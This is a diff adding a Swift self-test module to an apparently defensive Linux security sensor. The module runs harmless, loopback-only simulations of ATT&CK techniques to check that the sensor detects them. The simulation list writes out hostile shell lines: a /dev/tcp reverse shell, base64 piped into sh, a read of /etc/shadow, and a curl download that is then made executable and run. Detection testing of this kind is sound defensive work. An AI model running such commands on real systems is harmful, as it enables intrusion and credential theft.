@@ -1,0 +1,192 @@
+import Glibc
+import MamoriTriage
+
+/// `mamori selftest`: harmless simulations of attacker techniques, run against the live sensor
+/// and rule pack, each reported as detected or not.
+///
+/// Exists as an operator's proof that the sensor works on this kernel. Every simulation stays
+/// in a scratch directory (removed afterwards), talks only to loopback, and kills nothing.
+/// Runs on the calling thread; the agent's worker runs on its own thread meanwhile.
+public final class Selftest {
+    /// One simulated technique and what it is expected to trigger.
+    public struct Simulation: Sendable {
+        public var technique: String
+        public var name: String
+        /// Shell script run with `/bin/sh -c`, with `$S` = scratch dir and `$P` = loopback port.
+        public var script: String
+        /// Tools the script needs; missing ones skip the simulation.
+        public var requires: [String] = []
+    }
+
+    /// The outcome per simulation.
+    public struct Result: Sendable {
+        public var simulation: Simulation
+        public var detected: Bool
+        public var rules: [String]
+        public var skipped: String?
+    }
+
+    public static let simulations: [Simulation] = [
+        Simulation(technique: "T1059.004", name: "reverse shell: sh with stdin/stdout on a loopback TCP socket",
+                   script: "exec 0<>/dev/tcp/127.0.0.1/$P 1>&0; sh -c :", requires: ["bash"]),
+        Simulation(technique: "T1027", name: "base64-decoded script piped into a shell",
+                   script: "echo ZWNobyBtYW1vcmktc2VsZnRlc3QK | base64 -d | sh >/dev/null", requires: ["base64"]),
+        Simulation(technique: "T1003.008", name: "read of /etc/shadow by a non-authentication program",
+                   script: "cat /etc/shadow >/dev/null", requires: ["cat"]),
+        Simulation(technique: "T1105", name: "download into a temp path, chmod +x, execute",
+                   script: "curl -s -o $S/payload http://127.0.0.1:$P/payload && chmod +x $S/payload && $S/payload",
+                   requires: ["curl"]),
+        Simulation(technique: "T1036.005", name: "execute a binary from a hidden directory",
+                   script: "mkdir -p $S/.cache && cp /bin/true $S/.cache/kworker && $S/.cache/kworker", requires: ["cp"]),
+        Simulation(technique: "T1548.001", name: "set the setuid bit on a file",
+                   script: "cp /bin/true $S/suid && chmod u+s $S/suid", requires: ["cp", "chmod"]),
+        Simulation(technique: "T1070.003", name: "shell history cleared",
+                   script: "HOME=$S; : > $S/.bash_history; rm -f $S/.bash_history", requires: []),
+        Simulation(technique: "T1087", name: "LDAP/Kerberos fan-out to several directory servers (loopback)",
+                   script: "for i in 2 3 4 5 6 7; do (exec 3<>/dev/tcp/127.0.0.$i/389) 2>/dev/null; done",
+                   requires: ["bash"]),
+    ]
+
+    private let agent: Agent
+    private var hits: [(technique: [String], rule: String, timeNs: Int64)] = []
+    private let lock = Mutex()
+
+    public init(agent: Agent) {
+        self.agent = agent
+        agent.pipeline?.onAlert = { [weak self] alert, _ in
+            guard let self else { return }
+            self.lock.withLock {
+                self.hits.append((alert.fields.techniques, alert.fields.ruleName, Int64(Self.nowNs())))
+            }
+        }
+    }
+
+    /// Runs every simulation; `report` is called after each one.
+    public func run(report: (Result) -> Void) -> [Result] {
+        let scratch = Self.makeScratch()
+        defer { _ = Self.sh("rm -rf '\(scratch)'") }
+        let server = LoopbackServer()
+        defer { server.stop() }
+        var results: [Result] = []
+        for sim in Self.simulations {
+            if let missing = sim.requires.first(where: { !Self.haveTool($0) }) {
+                let r = Result(simulation: sim, detected: false, rules: [], skipped: "\(missing) not installed")
+                results.append(r); report(r); continue
+            }
+            let start = Int64(Self.nowNs())
+            let env = "S='\(scratch)'; P=\(server.port); "
+            let shell = sim.technique == "T1087" || sim.technique == "T1059.004" ? "/bin/bash" : "/bin/sh"
+            _ = Self.sh(env + sim.script, shell: shell)
+            var rules: [String] = []
+            let deadline = Self.nowNs() + 4_000_000_000
+            while Self.nowNs() < deadline {
+                rules = lock.withLock {
+                    hits.filter { $0.timeNs >= start && $0.technique.contains { $0 == sim.technique || $0.hasPrefix(sim.technique + ".") || sim.technique.hasPrefix($0 + ".") } }
+                        .map(\.rule)
+                }
+                if !rules.isEmpty { break }
+                usleep(50_000)
+            }
+            let r = Result(simulation: sim, detected: !rules.isEmpty, rules: Array(Set(rules)).sorted(), skipped: nil)
+            results.append(r); report(r)
+        }
+        return results
+    }
+
+    static func nowNs() -> UInt64 {
+        var ts = timespec()
+        clock_gettime(CLOCK_REALTIME, &ts)
+        return UInt64(ts.tv_sec) * 1_000_000_000 + UInt64(ts.tv_nsec)
+    }
+
+    static func haveTool(_ name: String) -> Bool {
+        for dir in ["/usr/bin", "/bin", "/usr/sbin", "/sbin", "/usr/local/bin"] where access(dir + "/" + name, X_OK) == 0 {
+            return true
+        }
+        return false
+    }
+
+    static func makeScratch() -> String {
+        var template = Array("/tmp/mamori-selftest-XXXXXX".utf8CString)
+        let path = template.withUnsafeMutableBufferPointer { mkdtemp($0.baseAddress!) }
+        return path.map { String(cString: $0) } ?? "/tmp/mamori-selftest-\(getpid())"
+    }
+
+    /// Runs a script through posix_spawn and waits; returns the exit status.
+    @discardableResult
+    static func sh(_ script: String, shell: String = "/bin/sh") -> Int32 {
+        var pid: pid_t = 0
+        let args = [shell, "-c", script]
+        var cargs = args.map { strdup($0) } + [nil]
+        defer { cargs.forEach { free($0) } }
+        var actions = posix_spawn_file_actions_t()
+        posix_spawn_file_actions_init(&actions)
+        defer { posix_spawn_file_actions_destroy(&actions) }
+        posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0)
+        posix_spawn_file_actions_addopen(&actions, 2, "/dev/null", O_WRONLY, 0)
+        guard posix_spawn(&pid, shell, &actions, nil, &cargs, environ) == 0 else { return -1 }
+        var status: Int32 = 0
+        while waitpid(pid, &status, 0) < 0 && errno == EINTR {}
+        return status
+    }
+}
+
+/// A tiny HTTP server on 127.0.0.1 that answers every request with a harmless shell script.
+final class LoopbackServer: @unchecked Sendable {
+    // SAFETY: `fd` is written once before the accept thread starts; `running` is only read there.
+    let fd: Int32
+    let port: UInt16
+    private var running = true
+    private var thread = pthread_t()
+
+    init() {
+        let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+        var addr = sockaddr_in()
+        addr.sin_family = sa_family_t(AF_INET)
+        addr.sin_addr.s_addr = inet_addr("127.0.0.1")
+        _ = withUnsafePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) } }
+        listen(fd, 8)
+        var len = socklen_t(MemoryLayout<sockaddr_in>.size)
+        _ = withUnsafeMutablePointer(to: &addr) { $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &len) } }
+        self.fd = fd
+        self.port = UInt16(bigEndian: addr.sin_port)
+        let ctx = Unmanaged.passRetained(self).toOpaque()
+        pthread_create(&thread, nil, { arg in
+            let server = Unmanaged<LoopbackServer>.fromOpaque(arg!).takeRetainedValue()
+            server.serve()
+            return nil
+        }, ctx)
+    }
+
+    private func serve() {
+        let body = "#!/bin/sh\nexit 0\n"
+        let response = "HTTP/1.0 200 OK\r\nContent-Length: \(body.utf8.count)\r\nContent-Type: text/plain\r\n\r\n" + body
+        while true {
+            let c = accept(fd, nil, nil)
+            if c < 0 { return }
+            var buf = [UInt8](repeating: 0, count: 2048)
+            _ = read(c, &buf, buf.count)
+            _ = response.withCString { write(c, $0, strlen($0)) }
+            close(c)
+        }
+    }
+
+    func stop() {
+        shutdown(fd, Int32(SHUT_RDWR))
+        close(fd)
+        pthread_join(thread, nil)
+    }
+}
+
+/// A pthread mutex for the alert list shared with the worker thread.
+final class Mutex: @unchecked Sendable {
+    // SAFETY: the pthread mutex serialises every access made through withLock.
+    private var m = pthread_mutex_t()
+    init() { pthread_mutex_init(&m, nil) }
+    deinit { pthread_mutex_destroy(&m) }
+    func withLock<T>(_ body: () -> T) -> T {
+        pthread_mutex_lock(&m)
+        defer { pthread_mutex_unlock(&m) }
+        return body()
+    }
+}
